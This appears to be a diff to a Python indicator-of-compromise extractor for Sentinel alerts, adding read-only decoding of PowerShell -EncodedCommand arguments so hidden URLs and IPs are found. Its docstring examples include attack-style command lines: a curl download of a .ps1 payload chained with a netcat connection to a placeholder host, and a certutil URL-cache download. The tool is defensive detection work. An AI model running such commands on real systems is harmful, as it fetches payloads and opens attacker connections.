@@ -5,7 +5,8 @@ Types use msticpy's names so results line up with IoCExtract and TILookup:
 "sha256_hash". Every candidate is validated, not just pattern-matched: an IPv4
 must parse, a domain must end in a public suffix (or a reserved test TLD such as
 `.example`), a URL must have a host. Values come from attackers, so nothing
-here evaluates, decodes or resolves them.
+here evaluates or resolves them; the only decoding is of PowerShell's base64
+`-EncodedCommand` text, which is read, never run.
 
 Example:
     >>> df = extract_iocs("curl -o x http://malicious.example/payload.ps1 && nc 192.0.2.66 4444")
@@ -72,6 +73,37 @@ _DOMAIN_FULL_RE = re.compile(
 )
 _HEX_RE = re.compile(r"[0-9a-f]+", re.IGNORECASE)
 _URL_TRAILING = ".,;:!?)'\""
+# PowerShell's -EncodedCommand (any prefix PowerShell accepts: -e, -ec, -en, -enc, ...).
+_ENCODED_ARG_RE = re.compile(r"(?:^|[\s\"'])[-/](e|ec|en[a-z]*)\s+([A-Za-z0-9+/]{8,}={0,2})", re.I)
+_MAX_ENCODED = 1_000_000
+
+
+def decode_powershell(text: str) -> list[str]:
+    """The text of each PowerShell `-EncodedCommand` argument in a command line.
+
+    Decoding base64 (UTF-16LE, as PowerShell expects) only reads the text: nothing
+    is run. Arguments that are not valid base64 UTF-16 text are ignored.
+
+    Example:
+        >>> decode_powershell("powershell -enc ZQBjAGgAbwAgAGgAaQA=")
+        ['echo hi']
+    """
+    import base64
+    import binascii
+
+    decoded = []
+    for match in _ENCODED_ARG_RE.finditer(text):
+        flag, payload = match.group(1).lower(), match.group(2)
+        if flag not in ("e", "ec") and not "encodedcommand".startswith(flag):
+            continue
+        if len(payload) > _MAX_ENCODED:
+            continue
+        try:
+            raw = base64.b64decode(payload + "=" * (-len(payload) % 4), validate=True)
+            decoded.append(raw.decode("utf-16-le"))
+        except (binascii.Error, UnicodeDecodeError, ValueError):
+            continue
+    return decoded
 
 
 @lru_cache(maxsize=1)
@@ -247,6 +279,14 @@ def _find_in_text(text: str, wanted: frozenset[str]) -> list[tuple[str, str]]:
     return ordered
 
 
+def _find_all(text: str, wanted: frozenset[str], decode: bool) -> list[tuple[str, str]]:
+    found = _find_in_text(text, wanted)
+    if decode:
+        for plain in decode_powershell(text):
+            found += [pair for pair in _find_in_text(plain, wanted) if pair not in found]
+    return found
+
+
 def _wanted_types(types: Iterable[str] | None) -> frozenset[str]:
     if types is None:
         return frozenset(IOC_TYPES)
@@ -265,13 +305,18 @@ def _wanted_types(types: Iterable[str] | None) -> frozenset[str]:
 
 
 def extract_iocs(
-    text: str | Iterable[Any] | None, *, types: Iterable[str] | None = None
+    text: str | Iterable[Any] | None,
+    *,
+    types: Iterable[str] | None = None,
+    decode: bool = True,
 ) -> pd.DataFrame:
     """Every indicator in a text, or in each text of a list/Series: Ioc, IocType, SourceIndex.
 
     `SourceIndex` is the position (or Series index label) of the text an indicator
     came from, so results join back to the rows they were found in. Non-text items
     (None, NaN, numbers) are skipped. `types` limits the search (e.g. ["url", "ip"]).
+    With `decode` (the default), PowerShell `-EncodedCommand` arguments are decoded
+    and searched too, since attackers hide their URLs there.
 
     Example:
         >>> extract_iocs(["ping 8.8.8.8", None, "certutil -urlcache -f https://x.example/a"],
@@ -292,7 +337,7 @@ def extract_iocs(
     rows = []
     for index, item in items:
         if isinstance(item, str):
-            rows.extend((value, kind, index) for value, kind in _find_in_text(item, wanted))
+            rows.extend((value, kind, index) for value, kind in _find_all(item, wanted, decode))
     return pd.DataFrame(rows, columns=["Ioc", "IocType", "SourceIndex"])
 
 
@@ -305,12 +350,16 @@ _ENTITY_FIELDS = {
     "filehash": ("Value",),
 }
 _SKIP_KEYS = frozenset({"$id", "$ref", "Type"})
+# Text fields that are names, not addresses ("eicar.com" is a file, not a domain).
+_SKIP_BY_TYPE = {"file": frozenset({"Name"}), "process": frozenset({"ProcessName"})}
 
 
-def _walk_entities(node: Any, out: list[tuple[str, str, str | None]], wanted: frozenset[str]):
+def _walk_entities(
+    node: Any, out: list[tuple[str, str, str | None]], wanted: frozenset[str], decode: bool
+) -> None:
     if isinstance(node, list):
         for child in node:
-            _walk_entities(child, out, wanted)
+            _walk_entities(child, out, wanted, decode)
         return
     if not isinstance(node, dict):
         return
@@ -324,24 +373,29 @@ def _walk_entities(node: Any, out: list[tuple[str, str, str | None]], wanted: fr
                 continue
             if kind in wanted:
                 out.append((norm, kind, etype))
+    skip = _SKIP_KEYS | _SKIP_BY_TYPE.get((etype or "").lower(), frozenset())
     for key, value in node.items():
-        if key in _SKIP_KEYS:
+        if key in skip:
             continue
         if isinstance(value, str):
-            out.extend((v, k, etype) for v, k in _find_in_text(value, wanted))
+            out.extend((v, k, etype) for v, k in _find_all(value, wanted, decode))
         elif isinstance(value, (dict, list)):
-            _walk_entities(value, out, wanted)
+            _walk_entities(value, out, wanted, decode)
 
 
 def extract_entity_iocs(
-    entities: str | list | dict | None, *, types: Iterable[str] | None = None
+    entities: str | list | dict | None,
+    *,
+    types: Iterable[str] | None = None,
+    decode: bool = True,
 ) -> pd.DataFrame:
     """Indicators in a Sentinel alert's Entities (JSON text or parsed): Ioc, IocType, EntityType.
 
     Typed entities give their field directly (ip.Address, url.Url, dns.DomainName,
     filehash.Value, host.FQDN); every other text value (command lines, file
-    paths) is searched as text. Text that is not valid JSON is searched as text,
-    so a truncated Entities column still yields what it holds.
+    paths) is searched as text, PowerShell encoded commands decoded (see
+    `extract_iocs`). Text that is not valid JSON is searched as text, so a
+    truncated Entities column still yields what it holds.
 
     Example:
         >>> ents = ('[{"$id": "1", "Type": "ip", "Address": "203.0.113.77"},'
@@ -358,10 +412,10 @@ def extract_entity_iocs(
         try:
             parsed = json.loads(entities)
         except ValueError:
-            out.extend((v, k, None) for v, k in _find_in_text(entities, wanted))
+            out.extend((v, k, None) for v, k in _find_all(entities, wanted, decode))
             parsed = None
     if parsed is not None:
-        _walk_entities(parsed, out, wanted)
+        _walk_entities(parsed, out, wanted, decode)
     seen: set[tuple[str, str]] = set()
     rows = []
     for value, kind, etype in out:
